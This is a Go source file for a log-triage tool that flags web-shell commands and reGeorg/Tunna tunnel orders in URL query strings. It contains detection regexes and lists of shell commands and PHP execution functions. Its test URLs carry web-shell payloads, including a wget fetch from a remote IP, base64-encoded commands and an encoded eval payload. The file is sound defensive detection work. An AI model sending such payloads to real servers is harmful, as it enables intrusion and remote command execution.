package triage

// Shells that take their command from the URL, and tunnels that take their orders from there: what access logs show
// without any body. A value is judged by its own grammar, and only where a script is asked; what was run is told
// decoded. Whether the script exists is not known here: ranking and incidents ask that.

import (
	"regexp"
	"strings"
)

const (
	maxShellParams = 16   // parameters of a query that are looked at
	maxShellValue  = 4096 // bytes of a value that may be a command
)

// shellQuery looks for the use of a shell in a query.
func (h *hunt) shellQuery(path, query string) {
	if !IsScript(path) {
		return
	}
	params := splitQuery(query)
	params = params[:min(len(params), maxShellParams)]
	values := make([]string, len(params))
	for i, p := range params {
		if values[i] = p.value; strings.ContainsAny(p.value, "%+") && len(p.value) <= 3*maxShellValue {
			values[i], _ = decodePercent(p.value, true)
		}
	}
	if h.tunnelOrder(params, values) || h.calledFunction(params, values) {
		return
	}
	for i, p := range params {
		if v := strings.TrimSpace(values[i]); v != "" && len(v) <= maxShellValue && !p.bare {
			h.sentCommand(queryField(p.name), asciiLower(p.name), v)
		} else if p.bare && len(params) == 1 && len(v) <= maxShellValue {
			h.sentCommand("query:", "", v)
		}
	}
}

// sentCommand looks for a command, or code that runs one, in a value.
func (h *hunt) sentCommand(field, name, v string) {
	named := commandNames[name]
	if code := callsCommand.FindStringSubmatch(v); code != nil {
		word, args, ok := readsCommand(code[3])
		if code[2] != "" || ok && (args || bareCommands[word]) {
			h.tell("query-code", field, code[3], "", "calls "+asciiLower(code[1]))
			return
		}
	}
	for i, text := range sentLayers(v) {
		text = strings.TrimSpace(text)
		word, args, ok := readsCommand(text)
		switch {
		case i > 0 && isCode(text):
			match, target, what := action(unfold(text, 0), nil)
			h.tell("query-code", field, match, target, what)
			return
		case !ok || searchNames[name]:
		case i > 0 && (args || bareCommands[word] && len(word) > 4):
			h.tell("query-command", field, text, "", "in base64 or hex")
			return
		case named && args && !commandVerbs[word]:
			h.tell("query-command", field, text, "", "")
			return
		case named && (args || len(name) > 1 && bareCommands[word]), args && !commandVerbs[word], rareBare[word] && !strings.Contains(text, " "):
			h.tell("query-command-bare", field, text, "", "")
			return
		}
	}
}

// callsCommand is PHP that runs a literal.
var callsCommand = regexp.MustCompile(`(?i)^\s*(?:<\?(?:php|=)?\s*)?(?:echo\s+|print\s*\(?\s*|die\s*\(\s*)?@?\(?(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\)?\s*\(\s*(["']?)([^"']{2,1000}?)["']?\s*(?:,[^()]{0,40})?\)\s*\)?\s*;?`)

// commandVerbs are commands whose names sites use for what they do themselves.
var commandVerbs = wordSet("find", "head", "net", "net1", "type", "service", "route", "query", "export", "copy", "move", "mv", "cp", "echo", "cat", "tree", "touch", "kill", "mount", "cd",
	"set", "zip", "php", "python", "perl", "sh", "cmd", "env", "tail", "del", "reg", "sc", "df", "du", "su", "base64")

// rareBare are commands that are no words of any language.
var rareBare = wordSet("whoami", "uname", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist", "printenv", "qwinsta", "quser", "lsb_release")

// searchNames are parameters that people type words into, or that hold an address.
var searchNames = wordSet("q", "s", "search", "query", "keyword", "keywords", "kw", "term", "text", "title", "subject", "name", "comment", "message", "msg", "url", "link", "redirect", "return", "ref", "referer", "referrer",
	"tag", "tags", "topic", "description", "p", "searchword", "find", "word", "words", "utm_term", "phrase")

// callable are functions of PHP that run what they are given; true of those that run code rather than a command.
var callable = map[string]bool{"system": false, "exec": false, "shell_exec": false, "passthru": false, "popen": false, "proc_open": false, "pcntl_exec": false, "assert": true, "eval": true, "create_function": true}

// calledFunction looks for shells that are told the function as well as what it is to run: ?1=system&2=id.
func (h *hunt) calledFunction(params []parameter, values []string) bool {
	for i := range params {
		code, ok := callable[asciiLower(values[i])]
		if !ok {
			continue
		}
		for k := range params {
			if k == i || params[k].bare || len(values[k]) > maxShellValue {
				continue
			}
			for _, text := range sentLayers(values[k]) {
				text = strings.TrimSpace(text)
				word, args, ok := readsCommand(text)
				if code && (isCode(text) || codeStart.MatchString(asciiLower(text)) && strings.HasSuffix(strings.TrimRight(text, "; "), ")")) ||
					!code && ok && (args || bareCommands[word]) {
					h.tell("query-function", queryField(params[k].name), text, "", "calls "+asciiLower(values[i]))
					return true
				}
			}
		}
	}
	return false
}

var (
	hostValue = regexp.MustCompile(`^[A-Za-z0-9._:\[\]-]{1,253}$`)
	portValue = regexp.MustCompile(`^\d{1,5}$`)
)

// tunnelOrder looks for the orders of reGeorg and Tunna.
func (h *hunt) tunnelOrder(params []parameter, values []string) bool {
	at := map[string]int{}
	for i, p := range params {
		name := asciiLower(p.name)
		if p.bare {
			name = asciiLower(values[i])
		}
		if _, twice := at[name]; !twice {
			at[name] = i
		}
	}
	get := func(name string) string {
		if i, ok := at[name]; ok && !params[i].bare {
			return values[i]
		}
		return ""
	}
	order := asciiLower(get("cmd"))
	host, port := get("target"), get("port")
	i, proxy := at["proxy"]
	proxy = proxy && params[i].bare
	switch {
	case order == "connect" && hostValue.MatchString(host) && portValue.MatchString(port):
		h.tell("query-tunnel", "query:cmd", "connect "+host+":"+port, "", "as reGeorg does")
	case proxy && hostValue.MatchString(get("ip")) && portValue.MatchString(port):
		h.tell("query-tunnel", "query:", "connect "+get("ip")+":"+port, "", "as Tunna does")
	case len(params) == 1 && (order == "read" || order == "forward" || order == "disconnect"):
		h.tell("query-tunnel-order", "query:cmd", order, "", "reGeorg's order "+order)
	case len(params) == 1 && proxy:
		h.tell("query-tunnel-order", "query:", "proxy", "", "Tunna's order proxy")
	default:
		return false
	}
	return true
}

const (
	sourceReGeorg = "https://github.com/sensepost/reGeorg"
	sourcePHPCall = "https://www.php.net/manual/en/functions.variable-functions.php"
)

// queryRules are the rules of shellQuery. Hit and Miss are targets of a GET.
var queryRules = []Rule{
	{ID: "query-command", Class: WebshellUse, Level: High, Source: sourceT1505,
		Why: "a script's parameter holds a command: consistent with the use of a web shell",
		Hit: []string{"/u/a.php?cmd=ls+-la+/var/www", "/u/a.aspx?c=ipconfig+/all", "/u/b.jsp?x1=d2hvYW1p", "/u/a.php?z=bHMgLWxhIC92YXIvd3d3", "/u/a.php?exec=wget+http://192.0.2.1/a.txt", "/a.php?c=dir+c:%5Cinetpub"},
		Miss: []string{"/a.php?cmd=login", "/a.php?action=ls", "/a.php?c=find/shoes", "/a.php?run=head+office", "/a.php?cmd=_xclick", "/a.php?c=net/cables", "/a.php?q=ls+-la",
			"/index.php?c=cat/shoes&a=list", "/docs/ls?cmd=ls+-la", "/a.php?state=aGVsbG8gd29ybGQ", "/a.php?exec=sort", "/a.php?system=mac", "/a.php?token=d2hhdCBhIGRheQ=="}},
	{ID: "query-command-bare", Class: WebshellUse, Level: Medium, Source: sourceT1505,
		Why: "a script's parameter is the name of a command, or a line that may be one: the use of a web shell or a try at one",
		Hit: []string{"/u/a.php?cmd=whoami", "/u/a.php?cmd=id", "/u/a.aspx?zz=ipconfig", "/u/a.php?0=ls+-la", "/a.php?cmd=cat+/etc/hosts", "/a.php?whoami"},
		Miss: []string{"/a.php?c=id", "/a.php?x=ls", "/a.php?cmd=list", "/a.php?q=whoami", "/a.php?cmd=type", "/a.php?do=find+-+shoes", "/whoami?x=whoami", "/a.php?page=who",
			"/a.php?sort=name+-a", "/a.php?title=cat+/+dog"}},
	{ID: "query-code", Class: WebshellUse, Level: High, Source: sourceT1505,
		Why:  "a script's parameter holds code to be run",
		Hit:  []string{"/a.php?x=system('id');", "/a.php?a=echo+shell_exec(%22ls+-la%22);", "/a.php?k=QGV2YWwoJF9QT1NUWydhJ10pO2RpZSgpOw==", "/a.php?c=passthru(whoami)"},
		Miss: []string{"/a.php?q=system", "/a.php?x=exec(utive)+summary+of", "/a.php?x=system+(solar)"}},
	{ID: "query-function", Class: WebshellUse, Level: High, Source: sourcePHPCall,
		Why:  "a function that runs what it is given, and a command or code for it, as two parameters: a small web shell, or a hole that calls functions by name",
		Hit:  []string{"/a.php?1=system&2=id", "/a.php?f=assert&p=phpinfo()", "/a.php?a=passthru&b=bHMgLWxh"},
		Miss: []string{"/a.php?type=system&id=4", "/a.php?a=exec&b=summary", "/a.php?os=system&v=ver+2"}},
	{ID: "query-tunnel", Class: WebshellUse, Level: High, Source: sourceReGeorg,
		Why:  "a script is told to connect to a host and port: a tunnel into the network",
		Hit:  []string{"/t.php?cmd=connect&target=10.0.0.5&port=3389", "/t.aspx?proxy&port=445&ip=127.0.0.1"},
		Miss: []string{"/t.php?cmd=connect&id=4", "/t.php?proxy=1&port=80&ip=x", "/t.php?cmd=connect&target=blank&port=Hamburg"}},
	{ID: "query-tunnel-order", Class: WebshellUse, Level: Low, Source: sourceReGeorg,
		Why:  "nothing but an order of a tunnel's client: consistent with it, and with an application that has such a word",
		Hit:  []string{"/t.php?cmd=forward", "/t.jsp?cmd=disconnect", "/t.aspx?proxy"},
		Miss: []string{"/t.php?cmd=forward&id=2", "/t?cmd=read", "/t.php?proxy=1"}},
}

// QueryRules returns the rules of shells in the URL. The caller may change the slice, not what the rules hold.
func QueryRules() []Rule { return append([]Rule(nil), queryRules...) }
